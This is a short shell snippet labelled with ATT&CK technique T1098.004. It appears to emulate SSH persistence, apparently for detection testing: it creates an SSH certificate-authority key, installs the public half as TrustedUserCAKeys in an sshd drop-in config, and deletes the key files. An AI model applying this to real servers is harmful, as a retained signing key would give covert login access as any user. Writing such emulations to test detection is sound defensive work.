# technique: T1098.004
# location: linux.ssh.server-config
# source: /etc/ssh/sshd_config.d/42-ca.conf
ssh-keygen -q -t ed25519 -N '' -C ca -f /tmp/ca
cp /tmp/ca.pub /etc/ssh/ca.pub
rm /tmp/ca /tmp/ca.pub
printf 'TrustedUserCAKeys /etc/ssh/ca.pub\n' > /etc/ssh/sshd_config.d/42-ca.conf
